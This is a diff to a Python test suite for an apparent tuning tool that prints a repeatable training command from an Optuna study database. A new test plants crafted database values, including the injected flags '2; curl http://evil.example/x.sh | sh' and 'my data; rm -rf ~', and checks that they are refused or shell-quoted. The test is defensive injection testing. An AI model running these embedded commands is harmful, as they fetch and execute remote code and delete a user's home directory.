@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import signal
 import subprocess
 import sys
@@ -146,7 +147,10 @@ def test_a_search_a_grid_and_the_study_view(folder_data, tmp_path, capsys):
     out = capsys.readouterr().out
     best = max(study.trials, key=lambda t: t.value)
     best_run = json.loads((logdir / best.user_attrs["run_dir_seed0"] / "metrics.json").read_text())
-    assert "4 of 4 trials to run" in out and f"repeat it: {best_run['command']}" in out
+    assert "4 of 4 trials to run" in out
+    repeat = next(ln for ln in out.splitlines() if ln.startswith("repeat it: ")).removeprefix("repeat it: ")
+    rebuilt, recorded = (vars(tune.parse_train(shlex.split(c)[2:])) for c in (repeat, best_run["command"]))
+    assert rebuilt == {**recorded, "seed": 0}  # the trial's own settings, rebuilt from checked values
     assert f"| `lenet/{best.user_attrs['run_dir_seed0'].split('/')[-1]}` |" in out
 
     assert tune.main([*common, "--grid", "optimizer=sgd,adam", "aug_flip=none", "--seeds", "0", "1", "--confirm", "1"]) == 0
@@ -332,3 +336,38 @@ def test_a_study_database_that_cannot_be_written_is_a_one_line_error(tmp_path, c
     err = capsys.readouterr().err.strip().splitlines()
     assert err == [f"tune.py: error: --storage {read_only}: cannot write the study (attempt to write a readonly "
                    f"database); check that the database is writable and reachable, or pass another --storage"]
+
+
+def test_a_crafted_study_database_never_reaches_a_printed_command_or_confirm(tmp_path, capsys):
+    """A database that says lr=50 (outside the declared space) and stores flags with a shell command
+    in them: `visualize.py study` prints no command from it, and `--confirm` runs nothing."""
+    import optuna
+
+    import visualize
+    from studies import store
+
+    logdir = tmp_path / "logs"
+    url = store.default_url(logdir)
+    study = store.open_study(url, "lenet-search", "lenet", ["lr=0.001:0.01"], flags=["--epochs", "2"])
+    study.add_trial(optuna.trial.create_trial(params={"lr": 50.0}, value=0.99,
+                                              distributions={"lr": optuna.distributions.FloatDistribution(0.001, 100)}))
+    assert visualize.main(["study", str(logdir)]) == 0
+    out = capsys.readouterr().out
+    assert "repeat it: (none: this study's database does not hold a trial tune.py wrote: the study's trial sets " \
+           "lr=50.0, outside its search space lr=0.001:0.01)" in out and "train.py --model" not in out
+    assert tune.main(["--model", "lenet", "--search", "lr=0.001:0.01", "--trials", "1", "--confirm", "1",
+                      "--logdir", str(logdir), "--gpus", "0"]) == 2
+    assert capsys.readouterr().err.strip().endswith("--confirm: the study's trial sets lr=50.0, outside its search "
+                                                    "space lr=0.001:0.01")
+    assert not (logdir / "lenet").exists()  # nothing was trained
+
+    study.set_user_attr("flags", ["--epochs", "2; curl http://evil.example/x.sh | sh"])
+    good = optuna.trial.create_trial(params={"lr": 0.005}, value=1.0,
+                                     distributions={"lr": optuna.distributions.FloatDistribution(0.001, 100)})
+    study.add_trial(good)
+    from report.study import best_command
+
+    assert best_command(store.load(url, None), "lenet").startswith("(none: ")  # flags train.py refuses
+    study.set_user_attr("flags", ["--data-dir", "my data; rm -rf ~"])  # a valid path with odd characters
+    assert best_command(store.load(url, None), "lenet") == \
+        "python train.py --model lenet --data-dir 'my data; rm -rf ~' --set lr=0.005"  # quoted: one word
